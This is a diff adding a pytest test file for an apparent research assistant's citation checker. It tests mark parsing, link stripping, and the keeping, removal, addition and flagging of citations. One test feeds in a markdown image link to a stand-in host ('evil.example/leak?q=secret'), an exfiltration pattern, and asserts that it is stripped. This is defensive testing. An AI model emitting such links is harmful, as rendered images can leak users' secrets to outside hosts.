@@ -1,0 +1,69 @@
+"""The citation checker on real embeddings: resolve, verify, add, flag, remove."""
+
+from __future__ import annotations
+
+import pytest
+
+from assistant.answer import Source
+from assistant.citations import check, parse_marks, strip_links
+from index.embeddings import Embedder
+
+SOURCES = [
+    Source(1, "pA", "Efficient ConvBN Blocks", "bundled:a", "We propose a Tune mode for ConvBN blocks. "
+           "The Tune mode is as stable as Eval mode and as efficient as Deploy mode.", "pA-1"),
+    Source(2, "pB", "Scaling CLIP", "bundled:b", "We find an inverse scaling law for CLIP training. "
+           "Larger encoders allow shorter image and text token sequences.", "pB-1"),
+]
+
+
+@pytest.mark.parametrize(
+    ("sentence", "text", "marks"),
+    [
+        ("ViT works well [2][1, 3].", "ViT works well.", [2, 1, 3]),
+        ("No marks here.", "No marks here.", []),
+        ("Twice [1] and again [1].", "Twice and again.", [1]),
+    ],
+)
+def test_parse_marks(sentence: str, text: str, marks: list[int]) -> None:
+    assert parse_marks(sentence) == (text, marks)
+
+
+def test_links_survive_only_for_indexed_sources() -> None:
+    text = "See [the paper](bundled:a) and ![x](http://evil.example/leak?q=secret)."
+    assert strip_links(text, {"bundled:a"}) == "See [the paper](bundled:a) and x."
+
+
+def test_supported_citation_is_kept(embedder: Embedder) -> None:
+    checked = check("The Tune mode is as stable as Eval mode and as efficient as Deploy mode [1].",
+                    SOURCES, embedder, 0.55)
+    assert [s.status for s in checked.sentences] == ["supported"]
+    assert checked.citations[0].paper_id == "pA"
+    assert "Tune mode is as stable" in checked.citations[0].sentence
+    assert checked.citations[0].support > 0.8
+
+
+def test_invented_number_is_removed(embedder: Embedder) -> None:
+    checked = check("Larger encoders allow shorter token sequences for CLIP [9].", SOURCES, embedder, 0.55)
+    assert checked.removed == [9]
+    assert "[9]" not in checked.text
+    # the claim is supported by source 2, so the checker adds that citation instead
+    assert checked.sentences[0].status == "added"
+    assert checked.sentences[0].cites == [2]
+
+
+def test_wrong_citation_is_corrected_and_missing_one_added(embedder: Embedder) -> None:
+    checked = check("CLIP training follows an inverse scaling law [1]. A Tune mode makes ConvBN blocks stable.",
+                    SOURCES, embedder, 0.55)
+    assert [(s.status, s.cites) for s in checked.sentences] == [("added", [2]), ("added", [1])]
+
+
+def test_unsupported_sentence_is_flagged(embedder: Embedder) -> None:
+    checked = check("The authors trained a chess engine on lunar soil samples [1].", SOURCES, embedder, 0.55)
+    assert checked.sentences[0].status == "unsupported"
+    assert checked.unsupported == ["The authors trained a chess engine on lunar soil samples."]
+
+
+def test_marks_after_the_full_stop_belong_to_the_sentence_before(embedder: Embedder) -> None:
+    checked = check("We find an inverse scaling law for CLIP training. [2] It is cheap.", SOURCES, embedder, 0.55)
+    assert checked.sentences[0].cites == [2]
+    assert checked.sentences[0].status == "supported"
